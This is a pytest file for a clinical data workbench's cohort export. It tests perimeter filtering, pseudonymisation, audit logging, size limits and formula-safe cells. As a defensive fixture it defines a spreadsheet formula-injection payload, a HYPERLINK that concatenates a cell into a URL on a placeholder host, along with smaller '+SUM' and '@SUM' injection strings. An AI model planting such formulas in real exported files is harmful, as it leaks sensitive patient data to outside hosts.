"""Cohort exports (`workbench.exports`): cohort ∩ perimeter, pseudonyms, formula-safe cells, size limit, refusals."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import workbench
from workbench import audit, exports
from workbench.errors import UserError
from workbench.output import FORMULA_STARTS

from .conftest import CARDIO, DIM, PERIMETER_STAYS, PILOTE

ATTACK = "=HYPERLINK(\"http://x.example/\"&A1)"


def export(catalog: Path, user, ids: list[int], out: Path, fmt: str = "xlsx", **options) -> exports.ExportResult:
    warehouse = workbench.open(catalog, user=user)
    return exports.export_cohort(warehouse, pd.DataFrame({"person_id": ids}), out, fmt, **options)


def sheets(path: Path) -> dict[str, list[tuple]]:
    book = openpyxl.load_workbook(path, read_only=True)
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def test_export_is_the_cohort_within_the_perimeter(demo_catalog, sql, cohort_ids, tmp_path):
    listed = ",".join(map(str, cohort_ids))
    in_perimeter = sql(f"select distinct person_id from ({PERIMETER_STAYS}) where person_id in ({listed})", "014-S03")
    stays = sql(f"select count(*) from ({PERIMETER_STAYS}) where person_id in ({listed})", "014-S03")[0][0]
    diagnoses = sql(f"select count(*) from condition_occurrence where coalesce(row_status_source_value, '') <> "
                    f"'supprimé' and visit_occurrence_id in (select visit_occurrence_id from ({PERIMETER_STAYS}) "
                    f"where person_id in ({listed}))", "014-S03")[0][0]
    result = export(demo_catalog, CARDIO, cohort_ids, tmp_path / "cohorte.xlsx", cohort={"name": "idm", "version": 2})
    book = sheets(result.path)
    assert list(book) == ["Patients", "Séjours", "Diagnostics", "Métadonnées"]
    patients = book["Patients"]
    assert patients[0][0] == "person_id"
    assert sorted(row[0] for row in patients[1:]) == sorted(r[0] for r in in_perimeter)  # nominative: real ids
    assert len(book["Séjours"]) - 1 == stays
    assert len(book["Diagnostics"]) - 1 == diagnoses
    assert result.rows == {"patients": len(in_perimeter), "stays": stays, "diagnoses": diagnoses}
    meta = dict(book["Métadonnées"][1:])
    assert (meta["cohorte"], meta["version"], meta["utilisateur"]) == ("idm", "2", "clinicien.cardio")
    assert meta["instantané"] == workbench.open(demo_catalog).snapshot_id
    line = [e for e in audit.read() if e["event"] == "export"][-1]
    assert line["tables"] == result.rows and line["rows"] == result.total and line["cohort"] == "idm"


def test_identifiers_are_pseudonymised_without_the_nominative_right(demo_catalog, sql, cohort_ids, tmp_path):
    first = sheets(export(demo_catalog, DIM, cohort_ids, tmp_path / "a.xlsx", cohort={"name": "idm"}).path)
    again = sheets(export(demo_catalog, DIM, cohort_ids, tmp_path / "b.xlsx", cohort={"name": "idm"}).path)
    other = sheets(export(demo_catalog, DIM, cohort_ids, tmp_path / "c.xlsx", cohort={"name": "autre"}).path)
    ids = {row[0] for row in first["Patients"][1:]}
    assert len(ids) == 15 and all(isinstance(i, str) and len(i) == 16 for i in ids)
    assert not ids & {str(i) for i in cohort_ids}
    assert ids == {row[0] for row in again["Patients"][1:]}  # stable for the same user and cohort
    assert not ids & {row[0] for row in other["Patients"][1:]}
    assert first["Patients"][0] == ("person_id", "sex", "birth_year", "death_date")
    assert "nda" not in first["Séjours"][0]
    stays_persons = {row[first["Séjours"][0].index("person_id")] for row in first["Séjours"][1:]}
    assert stays_persons <= ids  # the sheets still join


def test_every_cell_is_formula_safe(demo_catalog, cohort_ids, tmp_path):
    result = export(demo_catalog, DIM, cohort_ids, tmp_path / "f.xlsx", biology=["2160-0", "14682-9"],
                    drugs=["B01", "C"], cohort={"name": ATTACK, "definition": {"nom": "+SUM(1,1)"}})
    book = sheets(result.path)
    assert dict(book["Métadonnées"][1:])["cohorte"] == "'" + ATTACK
    texts = [cell for rows in book.values() for row in rows for cell in row if isinstance(cell, str)]
    assert texts and not [t for t in texts if t.startswith(FORMULA_STARTS)]
    archive = export(demo_catalog, DIM, cohort_ids, tmp_path / "f.zip", "csv",
                     cohort={"name": ATTACK, "definition": {"termes": ["douleur,=HYPERLINK(1)", "x; @SUM(1)"]}})
    with zipfile.ZipFile(archive.path) as opened:
        assert sorted(opened.namelist()) == ["diagnoses.csv", "patients.csv", "stays.csv"]
        text = opened.read("patients.csv").decode()
    assert text.startswith("# cohorte: =HYPERLINK")  # a comment line: its first cell starts with « # »
    import csv

    cells = [cell for row in csv.reader(line for line in text.splitlines() if not line.startswith("#")) for cell in row]
    assert len(cells) == 4 * 16 and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    # a stamp line split at its commas or semicolons (as a spreadsheet would) has no piece starting a formula
    pieces = [p.strip() for line in text.splitlines() if line.startswith("#") for p in re.split("[,;]", line)]
    assert "'=HYPERLINK(1)\"" in pieces and not [p for p in pieces if p.startswith(FORMULA_STARTS)]


def test_size_limit_refuses_and_writes_nothing(demo_catalog, cohort_ids, tmp_path):
    out = tmp_path / "sorties" / "gros.xlsx"
    with pytest.raises(UserError, match="export trop volumineux.*limite de 10"):
        export(demo_catalog, DIM, cohort_ids, out, limit=10)
    assert not out.exists() and not list(tmp_path.rglob("*.tmp*"))
    refusal = [e for e in audit.read() if e["event"] == "refused"][-1]
    assert refusal["action"] == "cohort.export" and refusal["limit"] == 10


def test_refusals_and_bad_input(demo_catalog, cohort_ids, sql, tmp_path):
    with pytest.raises(UserError, match="rôle referent_pilotage ne peut pas exporter une cohorte"):
        export(demo_catalog, PILOTE, cohort_ids, tmp_path / "p.xlsx")
    assert [e for e in audit.read() if e["event"] == "refused"][-1]["user"] == "pilotage"
    outside = [r[0] for r in sql(f"select person_id from person where person_id not in "
                                 f"(select person_id from ({PERIMETER_STAYS})) order by 1 limit 3", "014-S03")]
    with pytest.raises(UserError, match="aucun de ses 3 patients n'est dans votre périmètre"):
        export(demo_catalog, CARDIO, outside, tmp_path / "vide.xlsx")
    with pytest.raises(UserError, match="vide"):
        export(demo_catalog, CARDIO, [], tmp_path / "rien.xlsx")
    with pytest.raises(UserError, match=r"\.zip"):
        export(demo_catalog, CARDIO, cohort_ids, tmp_path / "x.csv", "csv")
    assert not list(tmp_path.glob("*.xlsx")) and not list(tmp_path.glob("*.csv"))
